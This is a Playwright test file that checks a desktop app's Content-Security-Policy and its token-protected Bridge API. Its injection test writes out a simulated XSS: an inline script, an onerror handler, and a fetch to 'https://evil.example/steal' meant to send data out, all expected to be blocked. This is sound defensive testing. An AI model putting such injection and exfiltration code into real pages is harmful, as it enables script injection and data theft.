import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { contentSecurityPolicy } from '../../electron/content-security-policy.ts';
import { BRIDGE_ROUTES, BRIDGE_TOKEN_HEADER } from '../../shared/bridge/bridge.ts';
import { metaPolicyProblems } from '../support/csp.ts';
import { newDeviceToken, ROOT, startWebHost, tempDir, type Running } from '../support/processes.ts';

/**
 * The built renderer under its Content-Security-Policy, in Chromium on the web host (issue 9 point 4):
 * an injected inline script does not run, a fetch to another origin is blocked, and the Bridge answers
 * no one without the token. No centre runs: nothing here needs one, and its origin is only a name.
 */
const CENTRAL = 'http://127.0.0.1:9'; // discard port: nothing answers there
let desk: Running;

test.beforeAll(async () => {
  desk = await startWebHost({ serverUrl: CENTRAL, deviceToken: newDeviceToken(), dataDir: await tempDir('desk-security') });
});

test.afterAll(async () => {
  await desk?.stop();
});

test('the built pages carry the policy: the web page by header, the Electron page by <meta>', async ({ page }) => {
  const electronHtml = await readFile(join(ROOT, 'dist/renderer/electron.html'), 'utf8');
  expect(metaPolicyProblems(electronHtml, contentSecurityPolicy(CENTRAL))).toEqual([]);
  const response = await page.goto(desk.url);
  expect(response?.headers()['content-security-policy']).toBe(contentSecurityPolicy(CENTRAL));
  // Nothing inline in the built web page either: the policy would block it and the app would not start.
  const indexHtml = await readFile(join(ROOT, 'dist/renderer/index.html'), 'utf8');
  expect(indexHtml).not.toMatch(/<script\b(?![^>]*\bsrc=)[^>]*>/i);
  expect(indexHtml).not.toMatch(/<style\b|\sstyle\s*=/i);
});

test('an injected inline script or handler does not run, and a fetch to another origin is blocked', async ({ page }) => {
  await page.goto(desk.url);
  await page.waitForLoadState('domcontentloaded');
  const outcome = await page.evaluate(async () => {
    const violations: { directive: string; blocked: string }[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
    const w = window as unknown as { injected?: string[] };
    w.injected = [];
    // What an XSS would do: an inline <script>, an inline handler. (Not eval: code Playwright evaluates
    // runs with DevTools' exemption from the policy, so an eval inside it proves nothing.)
    const script = document.createElement('script');
    script.textContent = 'window.injected.push("script")';
    document.body.append(script);
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.injected.push("handler")');
    img.src = 'data:,not-an-image';
    document.body.append(img);
    let fetchError = '';
    try {
      await fetch('https://evil.example/steal?d=1', { mode: 'no-cors' });
    } catch (err) {
      fetchError = String(err);
    }
    await new Promise((r) => setTimeout(r, 300)); // violation events are queued as tasks
    return { injected: w.injected, fetchError, violations };
  });
  expect(outcome.injected).toEqual([]);
  expect(outcome.fetchError).toMatch(/TypeError/);
  expect(outcome.violations).toEqual(
    expect.arrayContaining([
      { directive: 'script-src-elem', blocked: 'inline' },
      { directive: 'script-src-attr', blocked: 'inline' },
      { directive: 'connect-src', blocked: 'https://evil.example/steal?d=1' },
    ]),
  );
});

test('a Bridge call without the token gets 401 and no access-control-allow-origin, from the page or another origin', async ({ page, request }) => {
  await page.goto(desk.url);
  const fromPage = await page.evaluate(async (path) => {
    const r = await fetch(path);
    return { status: r.status, headers: [...r.headers.keys()] };
  }, BRIDGE_ROUTES.getAppInfo.path);
  expect(fromPage.status).toBe(401);
  expect(fromPage.headers.filter((h) => h.startsWith('access-control-'))).toEqual([]);

  const origin = new URL(desk.url).origin;
  for (const [name, route] of Object.entries(BRIDGE_ROUTES)) {
    const r = await request.fetch(`${origin}${route.path}`, { method: route.method, headers: { origin: 'https://evil.example', 'content-type': 'application/json' }, data: route.method === 'POST' ? '{}' : undefined });
    expect(r.status(), name).toBe(401);
    expect(Object.keys(r.headers()).filter((h) => h.startsWith('access-control-')), name).toEqual([]);
    const preflight = await request.fetch(`${origin}${route.path}`, { method: 'OPTIONS', headers: { origin: 'https://evil.example', 'access-control-request-method': route.method, 'access-control-request-headers': BRIDGE_TOKEN_HEADER } });
    expect(Object.keys(preflight.headers()).filter((h) => h.startsWith('access-control-')), name).toEqual([]);
  }
});
